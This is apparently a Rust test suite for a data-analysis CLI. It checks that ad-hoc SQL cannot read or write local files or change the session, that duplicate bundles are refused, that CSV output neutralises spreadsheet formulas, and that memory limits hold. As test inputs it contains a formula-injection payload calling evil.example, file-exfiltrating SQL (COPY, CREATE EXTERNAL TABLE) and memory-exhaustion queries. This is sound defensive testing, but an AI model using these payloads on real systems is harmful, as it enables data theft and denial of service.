//! Hostile inputs on the analysis side (issue 16): SQL that reaches past the bundle (local
//! files, COPY, DDL, SET), bundles given twice or overlapping in time, category values that
//! a spreadsheet would run as formulas, and queries that would take the machine's memory.
//! Each case runs the `clm-analyze` binary on real encrypted bundles.

mod fixture;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use clm_analyze::Engine;
use clm_core::bundle::{BundleWriter, ManifestDraft};
use clm_core::keys::{write_key_file, DataKey, KeyKind};
use fixture::*;

/// A value that must never reach the output: it stands for a personal value in a file beside
/// the bundle (a source export, /etc/passwd).
const SECRET: &str = "Ivanova Anna +79161234567";

fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_clm-analyze"));
    c.env_remove("CLM_DATA_KEY");
    c
}

struct Site {
    tmp: tempfile::TempDir,
    key: DataKey,
    key_file: PathBuf,
}

impl Site {
    fn new() -> Site {
        let tmp = tempfile::tempdir().unwrap();
        let key = DataKey::generate();
        let key_file = tmp.path().join("data.key");
        write_key_file(&key_file, KeyKind::Data, &key.0).unwrap();
        // a source file with personal data next to the bundles
        std::fs::write(
            tmp.path().join("clients.csv"),
            format!("name,phone\n{SECRET},x\n"),
        )
        .unwrap();
        Site { tmp, key, key_file }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.tmp.path().join(name)
    }

    /// Writes a bundle of `f`'s tables; `since`: an incremental export's `--since`.
    fn bundle(&self, name: &str, as_of: &str, since: Option<&str>, f: &Fixture) -> PathBuf {
        let dir = self.path(name);
        let mut w = BundleWriter::create(&dir, &self.key, date(as_of)).unwrap();
        for t in [
            "clients",
            "memberships",
            "visits",
            "services",
            "sales",
            "feedback",
        ] {
            let b = f.batch(t);
            if b.num_rows() > 0 {
                w.write_batch(t, &b).unwrap();
            }
        }
        w.finish(ManifestDraft {
            pseudonym_key_fingerprint: "00112233aabbccdd".into(),
            since: since.map(date),
            ..Default::default()
        })
        .unwrap();
        dir
    }

    /// `clm-analyze ARGS --bundle B... --data-key K`.
    fn run(&self, args: &[&str], bundles: &[&Path]) -> Out {
        let mut c = bin();
        c.args(args);
        for b in bundles {
            c.arg("--bundle").arg(b);
        }
        c.arg("--data-key").arg(&self.key_file);
        c.current_dir(self.tmp.path());
        Out::of(c.output().unwrap())
    }
}

struct Out {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl Out {
    fn of(o: std::process::Output) -> Out {
        Out {
            code: o.status.code(),
            stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
        }
    }
    fn all(&self) -> String {
        format!("{}{}", self.stdout, self.stderr)
    }
    fn refused(&self, words: &str) {
        assert_eq!(self.code, Some(1), "{}", self.all());
        assert!(self.stderr.contains(words), "{}", self.stderr);
        // the error line (warnings and notes may come before it)
        assert!(
            self.stderr
                .lines()
                .any(|l| l.starts_with("clm-analyze: error: ")),
            "{}",
            self.stderr
        );
        assert!(!self.all().contains(SECRET), "{}", self.all());
    }
}

fn club() -> Fixture {
    let mut f = Fixture::new();
    f.client_in("c1", "A", "2024-01-01")
        .membership("m1", "c1", "2024-01-01", "2024-06-30")
        .visit("c1", "2024-02-10 10:00");
    f.client_in("c2", "B", "2024-01-01");
    f
}

// --- 1. the analysis reads the bundle's tables only ---------------------------------------

#[test]
fn sql_cannot_read_a_local_file_as_a_table() {
    let site = Site::new();
    let b = site.bundle("b", "2024-03-31", None, &club());
    let csv = site.path("clients.csv");
    let csv = csv.to_str().unwrap();
    let create = format!("CREATE EXTERNAL TABLE x STORED AS CSV LOCATION '{csv}'");
    site.run(&["sql", &create], &[&b])
        .refused("CREATE EXTERNAL TABLE is not allowed");
    // nor in a script whose next statement would print it
    site.run(&["sql", &format!("{create}; SELECT * FROM x;")], &[&b])
        .refused("CREATE EXTERNAL TABLE is not allowed");
    // a path as a table name is no table
    let out = site.run(&["sql", &format!("SELECT * FROM '{csv}'")], &[&b]);
    out.refused("no table");
    // and the message names the tables there are, not an internal catalog path
    let out = site.run(&["sql", "SELECT * FROM nosuch"], &[&b]);
    out.refused("no table nosuch; the tables are: clients, memberships, visits");
    assert!(!out.stderr.contains("clm.bundle"), "{}", out.stderr);
}

#[test]
fn sql_cannot_write_files_or_change_the_session() {
    let site = Site::new();
    let b = site.bundle("b", "2024-03-31", None, &club());
    let clear = site.path("clear.parquet");
    let c = clear.to_str().unwrap();
    for (sql, words) in [
        (
            format!("COPY (SELECT * FROM clients) TO '{c}'"),
            "COPY is not allowed",
        ),
        (
            format!("COPY clients TO '{c}' STORED AS PARQUET"),
            "COPY is not allowed",
        ),
        (
            format!("EXPLAIN ANALYZE COPY (SELECT * FROM clients) TO '{c}'"),
            "COPY is not allowed",
        ),
        (
            "INSERT INTO clients (client_pid) VALUES ('x')".to_string(),
            "INSERT is not allowed",
        ),
        (
            "SET datafusion.execution.batch_size = 1".to_string(),
            "SET is not allowed",
        ),
        (
            "CREATE TABLE t AS SELECT * FROM clients".to_string(),
            "CREATE TABLE is not allowed in ad-hoc SQL: use CREATE VIEW",
        ),
        (
            "CREATE VIEW clients AS SELECT * FROM clients WHERE false".to_string(),
            "a view may not replace the bundle's table clients",
        ),
        (format!("CREATE VIEW v AS SELECT * FROM '{c}'"), "no table"),
        (
            "DROP TABLE clients".to_string(),
            "DROP TABLE is not allowed",
        ),
    ] {
        site.run(&["sql", &sql], &[&b]).refused(words);
        assert!(!clear.exists(), "{sql} wrote {c}");
    }
    // what may run still does
    let out = site.run(
        &[
            "sql",
            "CREATE VIEW v AS SELECT * FROM clients; \
             WITH w AS (SELECT * FROM v) SELECT count(*) AS n FROM w; EXPLAIN SELECT 1",
            "--format",
            "csv",
        ],
        &[&b],
    );
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert!(
        out.stdout.starts_with("# result1\nn\n2\n"),
        "{}",
        out.stdout
    );
}

#[test]
fn the_shell_cannot_write_files_either() {
    let site = Site::new();
    let b = site.bundle("b", "2024-03-31", None, &club());
    let clear = site.path("clear.parquet");
    let mut c = bin();
    c.args(["shell", "--bundle"])
        .arg(&b)
        .arg("--data-key")
        .arg(&site.key_file)
        .env("HOME", site.tmp.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        writeln!(
            stdin,
            "COPY (SELECT * FROM clients) TO '{}';\nSELECT count(*) AS n FROM clients;\n\\q",
            clear.display()
        )
        .unwrap();
    }
    let out = Out::of(child.wait_with_output().unwrap());
    assert!(!clear.exists(), "{}", out.all());
    assert!(out.stderr.contains("COPY is not allowed"), "{}", out.all());
    assert!(out.stdout.contains("│ 2 │"), "{}", out.all());
}

#[test]
fn query_files_may_create_views_but_not_reach_files() {
    let site = Site::new();
    let b = site.bundle("b", "2024-03-31", None, &club());
    let dir = site.path("queries");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(
        dir.join("rfm_summary.sql"),
        "-- @title per branch\nCREATE VIEW per_branch AS SELECT branch, count(*) AS n FROM clients GROUP BY branch;\n\
         -- @output branches\nSELECT * FROM per_branch ORDER BY branch;\n",
    )
    .unwrap();
    let csv = site.path("clients.csv");
    std::fs::write(
        dir.join("cohorts.sql"),
        format!(
            "CREATE EXTERNAL TABLE x STORED AS CSV LOCATION '{}';\n-- @output x\nSELECT * FROM x;\n",
            csv.display()
        ),
    )
    .unwrap();
    let clear = site.path("clear.csv");
    std::fs::write(
        dir.join("funnel.sql"),
        format!(
            "-- @output x\nCOPY (SELECT * FROM clients) TO '{}';\n",
            clear.display()
        ),
    )
    .unwrap();
    std::fs::write(
        dir.join("rfm.sql"),
        "CREATE VIEW clients AS SELECT * FROM clients WHERE false;\n-- @output x\nSELECT count(*) FROM clients;\n",
    )
    .unwrap();
    let q = dir.to_str().unwrap();
    let out = site.run(
        &["run", "rfm_summary", "--queries", q, "--format", "csv"],
        &[&b],
    );
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert_eq!(out.stdout, "branch,n\nA,1\nB,1\n");
    site.run(&["run", "cohorts", "--queries", q], &[&b])
        .refused("CREATE EXTERNAL TABLE is not allowed in a query file");
    site.run(&["run", "funnel", "--queries", q], &[&b])
        .refused("COPY is not allowed in a query file");
    assert!(!clear.exists());
    site.run(&["run", "rfm", "--queries", q], &[&b])
        .refused("a view may not replace the bundle's table clients");
}

#[test]
fn the_engine_offers_no_table_function_that_reads_files() {
    let engine = Engine::new();
    let mut names: Vec<String> = engine
        .context()
        .state()
        .table_functions()
        .keys()
        .cloned()
        .collect();
    names.sort();
    assert_eq!(names, ["generate_series", "range"]);
}

// --- 2. bundles given twice, and overlapping exports -------------------------------------

#[test]
fn the_same_export_twice_is_refused() {
    let site = Site::new();
    let b = site.bundle("b", "2024-03-31", None, &club());
    let out = site.run(&["sql", "SELECT count(*) FROM visits"], &[&b, &b]);
    assert_eq!(out.code, Some(2), "{}", out.all());
    assert!(out.stderr.contains("is given twice"), "{}", out.stderr);
    // a copy of it: the same export id
    let copy = site.path("copy");
    std::fs::create_dir(&copy).unwrap();
    for e in std::fs::read_dir(&b).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), copy.join(e.file_name())).unwrap();
    }
    let out = site.run(&["sql", "SELECT count(*) FROM visits"], &[&b, &copy]);
    assert_eq!(out.code, Some(2), "{}", out.all());
    assert!(out.stderr.contains("are the same export"), "{}", out.stderr);
}

/// Counts of the event tables and the revenue, as one CSV line.
const COUNTS: &str = "SELECT (SELECT count(*) FROM visits) AS visits, \
     (SELECT count(*) FROM sales) AS sales, (SELECT sum(amount) FROM sales) AS revenue, \
     (SELECT count(*) FROM feedback) AS feedback, (SELECT count(*) FROM services) AS services, \
     (SELECT count(*) FROM clients) AS clients";

fn counts(site: &Site, bundles: &[&Path]) -> (String, String) {
    let out = site.run(&["sql", COUNTS, "--format", "csv"], bundles);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    (out.stdout.lines().nth(1).unwrap().to_string(), out.stderr)
}

/// A club's events in February, and in a later export March's too.
fn events(f: &mut Fixture, march: bool) {
    f.client("c1", "2024-01-01").client("c2", "2024-01-01");
    f.visit("c1", "2024-02-10 10:00")
        .visit("c1", "2024-02-20 10:00")
        .sale("s1", "c1", "2024-02-20 11:00", "membership", 100000)
        .feedback("c1", "2024-02-21", 9)
        .service(
            "c1",
            "2024-02-20 12:00",
            "PT",
            "personal_training",
            "done",
            "pt",
        );
    if march {
        f.visit("c2", "2024-03-10 10:00")
            .sale("s2", "c2", "2024-03-10 11:00", "membership", 50000)
            .feedback("c2", "2024-03-11", 7)
            .service(
                "c2",
                "2024-03-10 12:00",
                "PT",
                "personal_training",
                "done",
                "pt",
            );
    }
}

#[test]
fn two_full_exports_count_each_event_once() {
    let site = Site::new();
    let mut feb = Fixture::new();
    events(&mut feb, false);
    let mut mar = Fixture::new();
    events(&mut mar, true);
    let b_feb = site.bundle("feb", "2024-02-29", None, &feb);
    let b_mar = site.bundle("mar", "2024-03-31", None, &mar);
    // March's full export holds February again: every event once, from March's bundle
    // (visits 3, sales 2 of 1500.00 in all, feedback 2, services 2, clients 2)
    let (line, notes) = counts(&site, &[&b_feb, &b_mar]);
    assert_eq!(line, "3,2,1500.00,2,2,2", "{notes}");
    assert!(
        notes.contains("are read from a later full export instead"),
        "{notes}"
    );
}

#[test]
fn an_incremental_export_that_overlaps_takes_the_overlap_from_the_later_bundle() {
    let site = Site::new();
    let mut feb = Fixture::new();
    events(&mut feb, false);
    // March's export of events after 2024-02-15: the visit, sale, feedback and service of
    // 2024-02-20/21 again, and March's; not the visit of 2024-02-10
    let mut mar = Fixture::new();
    mar.client("c1", "2024-01-01").client("c2", "2024-01-01");
    mar.visit("c1", "2024-02-20 10:00")
        .sale("s1", "c1", "2024-02-20 11:00", "membership", 100000)
        .feedback("c1", "2024-02-21", 9)
        .service(
            "c1",
            "2024-02-20 12:00",
            "PT",
            "personal_training",
            "done",
            "pt",
        )
        .visit("c2", "2024-03-10 10:00")
        .sale("s2", "c2", "2024-03-10 11:00", "membership", 50000)
        .feedback("c2", "2024-03-11", 7)
        .service(
            "c2",
            "2024-03-10 12:00",
            "PT",
            "personal_training",
            "done",
            "pt",
        );
    let b_feb = site.bundle("feb", "2024-02-29", None, &feb);
    let b_mar = site.bundle("mar", "2024-03-31", Some("2024-02-15"), &mar);
    // 2024-02-10 from February's bundle, the rest from March's: visits 3, sales 2, ...
    let (line, notes) = counts(&site, &[&b_mar, &b_feb]);
    assert_eq!(line, "3,2,1500.00,2,2,2", "{notes}");
    assert!(notes.contains("events after 2024-02-15"), "{notes}");

    // an export of events after the earlier one's as-of date: nothing overlaps, all add up
    let mut apr = Fixture::new();
    apr.client("c1", "2024-01-01")
        .visit("c1", "2024-03-05 10:00");
    let b_apr = site.bundle("apr", "2024-03-31", Some("2024-02-29"), &apr);
    // (clients 2: c2, only in February's export, stays: a snapshot keeps the latest row of
    // every client)
    let (line, notes) = counts(&site, &[&b_feb, &b_apr]);
    assert_eq!(line, "3,1,1000.00,1,1,2", "{notes}");
    assert!(!notes.contains("read from"), "{notes}");
}

#[test]
fn a_gap_between_exports_is_named() {
    let site = Site::new();
    let mut feb = Fixture::new();
    events(&mut feb, false);
    let mut mar = Fixture::new();
    mar.client("c1", "2024-01-01")
        .visit("c1", "2024-03-20 10:00");
    let b_feb = site.bundle("feb", "2024-02-29", None, &feb);
    let b_mar = site.bundle("mar", "2024-03-31", Some("2024-03-10"), &mar);
    let (line, notes) = counts(&site, &[&b_feb, &b_mar]);
    assert_eq!(line, "3,1,1000.00,1,1,2", "{notes}");
    assert!(
        notes.contains("no bundle holds the events from 2024-03-01 to 2024-03-10"),
        "{notes}"
    );
}

// --- 3. formula injection in the CSVs clm-analyze writes ---------------------------------

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

fn formula_club() -> Fixture {
    let mut f = Fixture::new();
    f.client_in("c1", FORMULA, "2024-01-01")
        .membership("m1", "c1", "2024-01-01", "2024-06-30")
        .visit("c1", "2024-03-10 10:00");
    f.client_in("c2", "@SUM(1+1)", "2024-01-01");
    f.client_in("c3", "-", "2024-01-01");
    f
}

/// No CSV cell starts with a formula character (a leading `'` neutralises it).
fn assert_no_formula(text: &str, what: &str) {
    let mut rdr_cells = Vec::new();
    for line in text.lines() {
        // the fixture's values hold no comma outside quotes except FORMULA's
        let mut cell = String::new();
        let mut quoted = false;
        for ch in line.chars() {
            match ch {
                '"' => quoted = !quoted,
                ',' if !quoted => rdr_cells.push(std::mem::take(&mut cell)),
                c => cell.push(c),
            }
        }
        rdr_cells.push(cell);
    }
    for c in rdr_cells {
        if c.chars().count() > 1 {
            let first = c.chars().next().unwrap();
            assert!(
                !matches!(first, '=' | '+' | '@' | '\t' | '\r')
                    && (first != '-' || c.parse::<f64>().is_ok()),
                "{what}: cell {c:?} would run as a formula"
            );
        }
    }
}

#[test]
fn csv_output_neutralises_formulas_but_keeps_numbers() {
    let site = Site::new();
    let b = site.bundle("b", "2024-03-18", None, &formula_club());
    let out = site.run(&["run", "segmentation", "--format", "csv"], &[&b]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert!(out.stdout.contains("'=HYPERLINK("), "{}", out.stdout);
    assert!(out.stdout.contains("'@SUM(1+1)"), "{}", out.stdout);
    assert_no_formula(&out.stdout, "run --format csv");
    // numbers stay numbers, in number and in text columns; a lone "-" stays
    let out = site.run(
        &[
            "sql",
            "SELECT -5 AS n, -0.25 AS x, '-5' AS t, '=1+1' AS f, '-' AS dash, '+7 (916)' AS p",
            "--format",
            "csv",
        ],
        &[&b],
    );
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert_eq!(
        out.stdout,
        "n,x,t,f,dash,p\n-5,-0.25,-5,'=1+1,-,'+7 (916)\n"
    );
    // a header is text too
    let out = site.run(&["sql", "SELECT 1 AS \"=cmd()\"", "--format", "csv"], &[&b]);
    assert_eq!(out.stdout, "'=cmd()\n1\n");
}

#[test]
fn report_csvs_neutralise_formulas() {
    let site = Site::new();
    let b = site.bundle("b", "2024-03-18", None, &formula_club());
    let dir = site.path("report");
    let out = site.run(&["report", "--out", dir.to_str().unwrap()], &[&b]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let mut seen = 0;
    for e in std::fs::read_dir(&dir).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "csv") {
            let text = std::fs::read_to_string(&p).unwrap();
            assert_no_formula(&text, &p.display().to_string());
            if text.contains("'=HYPERLINK(") {
                seen += 1;
            }
        }
    }
    // segments.csv and stages.csv at least carry the branch
    assert!(seen >= 2, "the branch reached {seen} report CSVs");
    let segments = std::fs::read_to_string(dir.join("segments.csv")).unwrap();
    assert!(segments.contains("'=HYPERLINK("), "{segments}");
}

// --- 4. memory ---------------------------------------------------------------------------

#[test]
fn a_query_over_the_memory_limit_fails_with_a_message() {
    let site = Site::new();
    let b = site.bundle("b", "2024-03-31", None, &club());
    // a join's hash table of a million rows, and an aggregate of four million values (32 MB):
    // far more than 8 MiB (an aggregate of one million, 8 MB held in two partitions, sat at the
    // limit and passed now and then)
    let join = "SELECT count(*) AS n FROM generate_series(1, 1000000) a \
                JOIN generate_series(1, 1000000) b ON a.value = b.value";
    let agg =
        "SELECT cardinality(array_agg(value)) - 3000000 AS n FROM generate_series(1, 4000000)";
    for q in [join, agg] {
        site.run(&["sql", q, "--memory-limit", "8M"], &[&b])
            .refused(
                "the query needs more than 8 MiB of memory (--memory-limit); raise --memory-limit",
            );
        // the same query under the default limit runs
        let out = site.run(&["sql", q, "--format", "csv"], &[&b]);
        assert_eq!(out.code, Some(0), "{}", out.stderr);
        assert_eq!(out.stdout, "n\n1000000\n");
    }
    // a result larger than the limit, from operators that hold little: a cross join of
    // 3000 x 3000 rows is 9 million values, 72 MB
    let cross = "SELECT a.value FROM generate_series(1, 3000) a, generate_series(1, 3000) b";
    site.run(&["sql", cross, "--memory-limit", "32M"], &[&b])
        .refused("the result is larger than --memory-limit 32 MiB: raise --memory-limit, or ask for fewer rows");
    // a limit that is no size
    let out = site.run(&["sql", "SELECT 1", "--memory-limit", "lots"], &[&b]);
    assert_eq!(out.code, Some(2), "{}", out.stderr);
    assert!(
        out.stderr.contains("give a size such as 4G"),
        "{}",
        out.stderr
    );
}

/// A single value built from small arguments is not seen by the memory pool (measured:
/// `repeat('a', 200000000)` under a 100 MiB limit peaked at 905 MB): the functions that build
/// one are capped at an eighth of the limit.
#[test]
fn a_huge_value_from_a_small_query_is_refused() {
    let site = Site::new();
    let b = site.bundle("b", "2024-03-31", None, &club());
    for q in [
        "SELECT repeat('a', 2000000000)",
        "SELECT length(repeat('ab', 10000000))",
        "SELECT lpad('a', 20000000)",
        "SELECT rpad('a', 20000000, 'xy')",
        "SELECT cardinality(range(1, 5000000))",
        "SELECT cardinality(generate_series(1, 5000000))",
        "SELECT cardinality(array_repeat(1, 5000000))",
        "SELECT length(repeat(branch, 5000000)) FROM clients",
    ] {
        let out = site.run(&["sql", q, "--memory-limit", "64M"], &[&b]);
        out.refused("more than the 8 MiB one value may take (an eighth of --memory-limit 64 MiB)");
        assert!(
            out.stderr.contains("raise --memory-limit"),
            "{}",
            out.stderr
        );
    }
    // what an analysis does with them still works
    let out = site.run(
        &[
            "sql",
            "SELECT repeat('ab', 3) AS r, lpad('7', 3, '0') AS p, rpad('a', 2) AS q, \
             cardinality(range(1, 4)) AS n, cardinality(generate_series(1, 4)) AS m, \
             cardinality(array_repeat(1, 2)) AS k, cardinality(range(10, 1, -3)) AS down",
            "--format",
            "csv",
            "--memory-limit",
            "64M",
        ],
        &[&b],
    );
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert_eq!(out.stdout, "r,p,q,n,m,k,down\nababab,007,a ,3,4,2,3\n");
}
